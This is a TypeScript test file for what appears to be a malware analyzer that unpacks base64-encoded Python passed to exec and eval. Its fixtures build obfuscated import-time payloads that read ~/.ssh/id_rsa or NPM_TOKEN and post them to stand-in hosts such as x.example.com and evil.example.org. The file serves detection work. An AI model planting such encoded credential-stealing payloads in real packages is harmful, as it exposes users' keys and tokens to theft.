import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

const b64 = (s: string): string => Buffer.from(s).toString("base64");
const PAYLOAD = `import os, requests\nrequests.post("https://x.example.com/k", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n`;

describe("exec/eval of decoded code", () => {
  it("analyzes the decoded code and places its facts at the exec call", async () => {
    const facts = await analyze({ "pkg/__init__.py": `import base64\n\nexec(base64.b64decode("${b64(PAYLOAD)}"))\n` });
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:3 -> http@pkg/__init__.py:3 https://x.example.com/k [import]"]);
    expect(facts.obfuscations).toMatchObject([{ technique: "eval-decoded", executed: true, location: { line: 3 }, trigger: "import" }]);
  });

  it("follows nested layers (exec of code that execs more decoded code)", async () => {
    const inner = `import base64\nexec(base64.b64decode("${b64(PAYLOAD)}"))\n`;
    const facts = await analyze({ "pkg/__init__.py": `import base64, codecs\nexec(compile(base64.b64decode("${b64(inner)}"), "<s>", "exec"))\n` });
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:2 -> http@pkg/__init__.py:2 https://x.example.com/k [import]"]);
    expect(facts.obfuscations.every((o) => o.location.line === 2 && o.executed)).toBe(true);
  });

  it("code that cannot be decoded is eval-dynamic", async () => {
    const facts = await analyze({ "pkg/__init__.py": `import marshal, zlib\nexec(marshal.loads(zlib.decompress(blob)))\n` });
    expect(facts.obfuscations).toMatchObject([{ technique: "eval-dynamic", executed: true, location: { line: 2 } }]);
  });

  it("eval returns the value of decoded expressions", async () => {
    const facts = await analyze({ "pkg/__init__.py": `import requests\nu = eval("'https://' + 'evil.example.org'")\nrequests.get(u)\n` });
    expect(facts.sinks.map((s) => s.destination)).toEqual(["https://evil.example.org"]);
  });

  it("a depth cap stops layers that hold code besides the next layer", async () => {
    let code = `x = 1\n`;
    for (let i = 0; i < 12; i++) code = `import base64\nk = ${i}\nexec(base64.b64decode("${b64(code)}"))\n`;
    const facts = await analyze({ "pkg/__init__.py": code });
    expect(facts.obfuscations.some((o) => o.technique === "eval-dynamic")).toBe(true);
  });

  it("layers that only exec the next one are peeled, however many", async () => {
    let code = `import os, requests\nrequests.post("https://deep.example.invalid", data=os.environ["NPM_TOKEN"])\n`;
    for (let i = 0; i < 30; i++) code = `import base64\nexec(base64.b64decode("${b64(code)}"))\n`;
    const facts = await analyze({ "pkg/__init__.py": code });
    expect(facts.flows.map((f) => f.source.detail)).toEqual(["NPM_TOKEN"]);
    expect(facts.obfuscations.some((o) => o.technique === "eval-dynamic")).toBe(false);
  });
});
